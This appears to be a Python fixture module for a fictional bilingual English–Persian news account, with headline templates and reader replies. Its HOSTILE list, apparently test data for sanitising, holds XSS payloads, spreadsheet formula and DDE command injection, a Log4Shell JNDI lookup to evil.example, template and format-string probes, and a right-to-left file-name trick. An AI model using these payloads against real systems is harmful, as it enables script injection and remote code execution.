"""Texts of the sample account: headlines to fill, replies, and posts that mean harm.

Every name is invented; links lead to ``khabar.example``, a domain reserved for examples.
"""

from __future__ import annotations

SITE = "https://khabar.example"

ENGLISH = (
    "{city} council votes {n} to {m} for the new tram line",
    "What the {season} budget means for teachers, in {small} charts",
    "Explainer: why the rial moved this week, and why it may not last",
    "Water in {city}: reservoirs stand at {percent} percent, engineers say",
    "{n} students from {city} reach the national mathematics final",
    "Interview: the last bookbinder of {city} looks for an apprentice",
    "Air quality in {city} is expected to stay unhealthy until {weekday}",
    "We checked it: the photograph of the bridge at {city} is from another country",
    "A library on wheels has visited {n} villages around {city} this {season}",
    "Morning briefing: five stories to know this {weekday}",
    "Saffron harvest begins near {city}; growers hope for {percent} percent more",
    "Correction: the hall in {city} seats {n} people, not {m}",
    "How to read an inflation figure in two minutes",
    "Film week opens in {city} with {small} first features by women",
    "Trains between {city} and Tehran to run {small} times a day from {weekday}",
    "Hospital in {city} opens a ward for rare diseases",
    "Live: questions and answers with our science desk on {weekday} at 18:00",
    "The quiet return of the {city} handicraft market",
    "Data: rents in {city} rose {percent} percent in a year. How we counted",
    "Volunteers plant {n} oaks above {city}",
    "Newsletter: the week in {small} stories, every Thursday. Subscribe here",
    "Three readers' questions about vaccines, answered by a paediatrician",
    "Weather: rain in the north from {weekday}, dry in {city}",
    "Archaeologists near {city} date the kiln to the Sasanian age",
)

PERSIAN = (
    "شورای شهر {city} با {n} رأی موافق خط تازهٔ تراموا را تصویب کرد",
    "بودجهٔ {season} برای معلمان چه معنایی دارد؟ در {small} نمودار",
    "چرا نرخ ارز این هفته تغییر کرد؟ توضیحی کوتاه از میز اقتصاد",
    "ذخیرهٔ آب سدهای {city} به {percent} درصد رسید",
    "{n} دانش‌آموز از {city} به مرحلهٔ نهایی المپیاد ریاضی راه یافتند",
    "گفت‌وگو با آخرین صحاف {city} که دنبال شاگرد می‌گردد",
    "هوای {city} تا روز {weekday} ناسالم می‌ماند",
    "راستی‌آزمایی: تصویر پل منسوب به {city} متعلق به کشور دیگری است",
    "کتابخانهٔ سیار امسال به {n} روستای اطراف {city} رفت",
    "خلاصهٔ صبح: پنج خبری که باید امروز {weekday} بدانید",
    "برداشت زعفران در نزدیکی {city} آغاز شد؛ کشاورزان به رشد {percent} درصدی امید دارند",
    "اصلاحیه: ظرفیت تالار {city} {n} نفر است، نه {m} نفر",
    "نرخ تورم را در دو دقیقه چگونه بخوانیم؟",
    "هفتهٔ فیلم {city} با {small} فیلم اول از کارگردانان زن آغاز شد",
    "قطار {city} به تهران از {weekday} روزی {small} نوبت حرکت می‌کند",
    "بخش بیماری‌های نادر در بیمارستان {city} راه افتاد",
    "پرسش و پاسخ زنده با میز علم، {weekday} ساعت ۱۸",
    "بازگشت آرام بازار صنایع دستی {city}",
    "اجارهٔ خانه در {city} در یک سال {percent} درصد بالا رفت؛ روش محاسبهٔ ما",
    "داوطلبان {n} نهال بلوط بالای {city} کاشتند",
    "خبرنامه: هفته در {small} روایت، هر پنجشنبه. عضو شوید",
    "سه پرسش خوانندگان دربارهٔ واکسن و پاسخ متخصص کودکان",
    "هواشناسی: از {weekday} در شمال باران، در {city} آسمان صاف",
    "باستان‌شناسان کورهٔ نزدیک {city} را از دورهٔ ساسانی می‌دانند",
)

ENGLISH_WORDS = {
    "city": (
        "Shiraz",
        "Tabriz",
        "Isfahan",
        "Rasht",
        "Yazd",
        "Kerman",
        "Mashhad",
        "Ahvaz",
        "Hamadan",
    ),
    "season": ("spring", "summer", "autumn", "winter"),
    "weekday": ("Saturday", "Sunday", "Monday", "Tuesday", "Wednesday"),
    "small": ("three", "four", "five", "six"),
}
PERSIAN_WORDS = {
    "city": ("شیراز", "تبریز", "اصفهان", "رشت", "یزد", "کرمان", "مشهد", "اهواز", "همدان"),
    "season": ("بهار", "تابستان", "پاییز", "زمستان"),
    "weekday": ("شنبه", "یکشنبه", "دوشنبه", "سه‌شنبه", "چهارشنبه"),
    "small": ("سه", "چهار", "پنج", "شش"),
}

HASHTAGS = {
    "en": ("#Iran", "#science", "#factcheck", "#water"),
    "fa": ("#ایران", "#علم", "#راستی‌آزمایی", "#آب"),
}

REPLIES = (
    "@reader_one_example Thank you, corrected. The note is at the end of the article.",
    "@reader_two_example The source is the ministry's own table, linked in the second paragraph.",
    "@reader_three_example ممنون از دقت شما، اصلاح شد.",
    "@reader_four_example منبع در پاراگراف دوم آمده است.",
    "@reader_five_example Good question. We will ask and come back to you.",
    "@reader_six_example بله، نسخهٔ صوتی فردا منتشر می‌شود.",
    "@reader_one_example @reader_two_example Both figures are right; one is monthly, one yearly.",
)

VIRAL = (
    "گفت‌وگوی اختصاصی: معلمی که برای ۳۲ روستا کتابخانه ساخت 📚 "
    "The teacher who built libraries for 32 villages "
)

# When (UTC), text, how much farther than a usual post it went. X writes < > & of a post as
# entities; the one raw <script> is what a file holds after somebody "cleaned" it by hand.
HOSTILE = (
    (
        "2025-06-11T09:20",
        "<script>document.title='owned'</script> is what our form received 😅",
        1.6,
    ),
    ("2025-07-08T15:02", '=HYPERLINK("https://evil.example","free tickets")', 1.2),
    ("2025-09-16T07:45", 'Two lines,\n\nand a third, with "quotes", commas, and a tab\there', 1.5),
    ("2025-12-09T10:10", "<img src=x onerror=alert(1)> &amp; other things readers send us", 1.4),
    ("2026-01-20T16:30", "-1+1 is not a formula, nor is +98 21 0000 0000, nor @SUM(A1:A9)", 1.3),
    (
        "2026-02-10T08:15",
        "Rent: $1,200 in May, $1,350 in June. Is x_{1}^{2} up? $\\frac{1}{2}$",
        1.4,
    ),
    (
        "2026-04-21T13:40",
        "\u202egnp.exe\u202c is an old trick: the name reads backwards \u200f(علامت)\u200f",
        1.2,
    ),
    (
        "2026-06-16T17:05",
        "{{ 7*7 }} {% raw %} ${jndi:ldap://evil.example/a} %s %n {0} {found}",
        1.3,
    ),
    (
        "2026-08-11T11:11",
        "[click](javascript:alert(1)) | not | a | table | `code` **bold** <!-- gone -->",
        1.5,
    ),
    (
        "2026-09-08T14:25",
        "</style></svg><svg onload=alert(1)> and “quoted” 'single' \"double\"",
        2.5,
    ),
    ("2026-09-15T09:35", "👨‍👩‍👧‍👦🏳️‍🌈 خانواده‌ها در جشن ۱۰۰ سالگی دبستان 🎈🎈🎈", 2.2),
    ("2026-10-06T15:50", "دلار $42$ شد یا $43$؟ جدول کامل: &lt;b&gt; یعنی درشت، نه دستور 🙂", 2.6),
    ("2026-10-20T08:05", "=cmd|' /C calc'!A0 و متن فارسی: تیترهایی که فرم ما دریافت می‌کند", 2.3),
)
RAW = "<script>document.title='owned'</script>"
